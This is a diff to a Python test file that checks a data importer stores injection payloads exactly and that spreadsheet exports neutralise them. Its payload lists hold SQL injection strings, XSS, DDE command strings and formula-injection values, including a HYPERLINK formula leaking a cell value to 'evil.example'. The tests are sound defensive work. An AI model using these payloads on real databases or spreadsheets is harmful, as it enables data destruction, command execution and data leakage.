@@ -33,6 +33,9 @@ SQL = ["'; DROP TABLE stations; --", "Robert'); DROP TABLE students;--", "' OR '
 FORMULA = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "=1+1",
            "\t=cmd", "\r=cmd|' /C calc'!A0", "<script>alert(1)</script>", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")"]
 PAYLOADS = SQL + FORMULA
+# names, ids and titles may not hold a tab or a carriage return: refused at the door, in ledgers too
+# (tests/test_hardening.py); the ledgers here carry the rest in every text field, rationales carry them all
+NAMES = [p for p in PAYLOADS if not any(c in p for c in "\t\r\n")]
 
 
 def stored_form(table: str, column: str, text: str) -> str:
@@ -76,7 +79,7 @@ def loaded(demo_copy):
     ):
         cols = text_columns(table)
         header = cols + list(extra)
-        rows = [[p] * len(cols) + list(extra.values()) for p in PAYLOADS]
+        rows = [[p] * len(cols) + list(extra.values()) for p in NAMES]
         files.append((table, csv_bytes(header, rows), f"{table}.csv"))
         rows_by_table[table] = cols
     plan = importer.check_many(con, files)
@@ -93,21 +96,19 @@ def test_payloads_are_stored_exactly_and_never_run(loaded, capsys):
     checked = 0
     for table, cols in cols_by_table.items():
         key = importer.KEYS[table][0]
-        for p in PAYLOADS:
+        for p in NAMES:
             k = stored_form(table, key, p)
             row = con.execute(f'SELECT {", ".join(cols)} FROM "{table}" WHERE "{key}" = ?', [k]).fetchall()
             assert len(row) == 1, (table, p)
             assert list(row[0]) == [stored_form(table, c, p) for c in cols]
             checked += len(cols)
     counts = records.table_counts(con)
-    assert counts["stations"] >= len(PAYLOADS) and counts["needs"] > len(PAYLOADS)
+    assert counts["stations"] >= len(NAMES) and counts["needs"] > len(NAMES)
     assert con.execute("SELECT value FROM meta WHERE key = 'kind'").fetchall() == [("demo",)]
-    _publish("injection-import", f"injection-import: {len(PAYLOADS)} payloads x {checked // len(PAYLOADS)} text fields "
+    _publish("injection-import", f"injection-import: {len(NAMES)} payloads x {checked // len(NAMES)} text fields "
                                  f"in 6 tables stored exactly, every table intact", capsys)
 
 
-# names may not hold a tab or a line break (refused at the door: tests/test_hardening.py); rationales may
-NAMES = [p for p in PAYLOADS if not any(c in p for c in "\t\r\n")]
 NAME_FORMULAS = [p for p in FORMULA if p in NAMES]
 
 
@@ -174,7 +175,7 @@ def test_exports_neutralise_every_payload(loaded, tmp_path, capsys):
     wb = openpyxl.load_workbook(tmp_path / "one-en.xlsx")
     names = {c.value for c in wb["scores"]["C"]}
     # (XML turns a carriage return inside text into a line feed when it is read back)
-    station_names = {("'" + p if p.startswith(DANGEROUS_START) else p).replace("\r", "\n") for p in PAYLOADS}
+    station_names = {"'" + p if p.startswith(DANGEROUS_START) else p for p in NAMES}
     assert station_names <= names
     assert n_neutralised > 0
     _publish("injection-export", f"injection-export: {n_cells} XLSX cells read back over 4 workbooks, 0 formulas, "
